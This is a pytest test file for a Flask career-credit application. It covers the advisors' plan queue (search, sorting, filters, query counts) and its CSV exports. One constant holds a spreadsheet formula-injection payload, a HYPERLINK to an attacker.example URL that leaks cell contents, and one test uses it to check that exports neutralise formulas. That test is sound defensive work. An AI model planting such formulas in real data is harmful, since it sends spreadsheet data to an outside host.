"""The advisors' queue at scale: search, filters, waiting time, hours and the CSV file."""

from __future__ import annotations

import csv
import html
import io
from datetime import timedelta
from decimal import Decimal

from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select

from careercredit import clock
from careercredit.extensions import db
from careercredit.models import AuditEvent, CreditPlan, HourEntry, PlanState, Role, User
from tests.conftest import user_id
from tests.factories import Factory
from tests.statements import statements

FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click me")'


def student(app: Flask, make: Factory, uid: str, name: str, number: str | None = None) -> int:
    person = make.user(uid, Role.student, name=name)
    if number:
        with app.app_context():
            user = db.session.get(User, person)
            assert user is not None
            user.student_number = number
            db.session.commit()
    return person


def submitted(make: Factory, student_id: int, days_ago: int, **values: object) -> int:
    """A plan submitted ``days_ago`` days ago (at noon, so the day is the same in any zone)."""
    moment = clock.now().replace(hour=12, minute=0) - timedelta(days=days_ago)
    return make.plan(student_id, PlanState.submitted, submitted_at=moment, **values)


def text(response) -> str:
    return html.unescape(response.get_data(as_text=True))


def order_of(page: str, names: list[str]) -> list[str]:
    """``names`` in the order the page shows them."""
    return sorted((n for n in names if n in page), key=page.index)


def rows_of(response) -> list[dict[str, str]]:
    body = response.get_data()
    assert body.startswith(b"\xef\xbb\xbf"), "a spreadsheet reads the file as UTF-8"
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def test_queue_searches_by_name_username_and_student_number(
    app: Flask, login_as, make: Factory
) -> None:
    advisor = login_as("advisor")
    bea = submitted(make, student(app, make, "bsmith", "Bea Smith", "900000101"), 3)
    cal = submitted(make, student(app, make, "cjones", "Cal Jones", "900000102"), 2)
    zoe = submitted(make, student(app, make, "zodegard", "Zoë Ødegård", "900000103"), 1)

    by_name = text(advisor.get("/plans/queue?q=Ødegå"))
    by_uid = text(advisor.get("/plans/queue?q=cjon"))
    by_number = text(advisor.get("/plans/queue?q=900000101"))

    assert f'id="plan-{zoe}"' in by_name
    assert f'id="plan-{bea}"' not in by_name
    assert "1 plan in the queue matches these filters." in by_name
    assert f'id="plan-{cal}"' in by_uid
    assert f'id="plan-{zoe}"' not in by_uid
    assert f'id="plan-{bea}"' in by_number
    assert f'id="plan-{cal}"' not in by_number
    nobody = text(advisor.get("/plans/queue?q=nobody-at-all"))
    assert "No plan matches these filters." in nobody


def test_queue_sorts_by_waiting_and_shows_days_hours_and_credits(
    app: Flask, login_as, make: Factory
) -> None:
    advisor = login_as("advisor")
    old = submitted(make, student(app, make, "bsmith", "Bea Smith"), 11, credits=2)
    new = submitted(make, student(app, make, "cjones", "Cal Jones"), 2)
    with app.app_context():
        plan = db.session.get(CreditPlan, old)
        assert plan is not None
        placement = plan.placements[0]
        for day, hours in enumerate(("2.5", "4")):
            db.session.add(
                HourEntry(
                    placement_id=placement.id,
                    work_date=clock.today() - timedelta(days=day + 1),
                    hours=Decimal(hours),
                    description="Early research.",
                )
            )
        db.session.commit()

    oldest_first = text(advisor.get("/plans/queue"))
    newest_first = text(advisor.get("/plans/queue?sort=newest"))

    assert order_of(oldest_first, ["Bea Smith", "Cal Jones"]) == ["Bea Smith", "Cal Jones"]
    assert order_of(newest_first, ["Bea Smith", "Cal Jones"]) == ["Cal Jones", "Bea Smith"]
    row = oldest_first[oldest_first.index(f'id="plan-{old}"') :]
    row = row[: row.index("</tr>")]
    assert "6.5 / 90" in row  # hours logged / needed for 2 credits at 45 an hour
    assert ">11<" in row.replace(" ", "")  # days waiting
    assert f'id="plan-{new}"' in oldest_first


def test_assigned_to_me_shows_only_the_advisors_plans(app: Flask, login_as, make: Factory) -> None:
    advisor = login_as("advisor")
    me = user_id(app, "adavis")
    other = make.user("mwong", Role.advisor, name="Mei Wong")
    mine = submitted(make, student(app, make, "bsmith", "Bea Smith"), 4, assigned_advisor_id=me)
    theirs = submitted(
        make, student(app, make, "cjones", "Cal Jones"), 5, assigned_advisor_id=other
    )

    page = text(advisor.get("/plans/queue?mine=1"))

    assert f'id="plan-{mine}"' in page
    assert f'id="plan-{theirs}"' not in page
    assert 'id="filter-mine" name="mine" value="1" checked' in page
    everyone = text(advisor.get("/plans/queue"))
    assert f'id="plan-{theirs}"' in everyone
    assert "Mei Wong" in everyone


def test_queue_csv_holds_the_filtered_queue_with_formulas_neutralised(
    app: Flask, login_as, make: Factory
) -> None:
    advisor = login_as("advisor")
    evil = submitted(make, student(app, make, "evil", FORMULA, "900000199"), 6)
    submitted(make, student(app, make, "cjones", "Cal Jones"), 2)

    response = advisor.get("/plans/queue.csv?q=900000199")

    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = rows_of(response)
    assert [row["plan_id"] for row in rows] == [str(evil)]
    assert rows[0]["student"] == "'" + FORMULA
    assert rows[0]["days_waiting"] == "6"
    assert rows[0]["hours_needed"] == "45"
    link = text(advisor.get("/plans/queue?q=900000199"))
    assert 'href="/plans/queue.csv?q=900000199"' in link
    with app.app_context():
        [download] = db.session.scalars(
            select(AuditEvent).where(AuditEvent.action == "list.download")
        ).all()
        assert download.actor_id == user_id(app, "adavis")
        assert (download.object_id, download.details) == ("queue", {"filter": {"q": "900000199"}})


def test_plans_list_csv_follows_its_filter(app: Flask, login_as, make: Factory) -> None:
    registrar = login_as("registrar")
    bea = student(app, make, "bsmith", "Bea Smith")
    waiting = submitted(make, bea, 1)
    make.plan(bea, PlanState.draft)

    rows = rows_of(registrar.get("/plans/all.csv?state=submitted"))

    assert [row["plan_id"] for row in rows] == [str(waiting)]
    assert rows[0]["state"] == "Submitted"
    assert rows[0]["username"] == "bsmith"


def test_students_download_only_their_own_plans(app: Flask, login_as, make: Factory) -> None:
    alice: FlaskClient = login_as("student")
    own = make.plan(user_id(app, "alice"), PlanState.draft)
    make.plan(student(app, make, "bsmith", "Bea Smith"), PlanState.draft)

    rows = rows_of(alice.get("/plans/mine.csv"))

    assert [row["plan_id"] for row in rows] == [str(own)]


def test_a_queue_page_costs_the_same_few_queries_whatever_its_size(
    app: Flask, login_as, make: Factory
) -> None:
    advisor = login_as("advisor")
    me = user_id(app, "adavis")
    term = make.term()

    def fill(count: int) -> None:
        for _ in range(count):
            person = make.user(None, Role.student, name="Bea Searchable")
            plan_id = submitted(make, person, 3, term_id=term, assigned_advisor_id=me)
            with app.app_context():
                plan = db.session.get(CreditPlan, plan_id)
                assert plan is not None
                db.session.add(
                    HourEntry(
                        placement_id=plan.placements[0].id,
                        work_date=clock.today(),
                        hours=Decimal(2),
                        description="Reading.",
                    )
                )
                db.session.commit()

    path = f"/plans/queue?q=Searchable&mine=1&term={term}&sort=newest"
    fill(2)
    with statements(app) as small:
        assert advisor.get(path).status_code == 200
    fill(23)
    with statements(app) as full:
        page = advisor.get(path).get_data(as_text=True)
    assert page.count('name="plan_ids"') == 25
    assert len(full) == len(small)
    assert len(full) <= 12, full
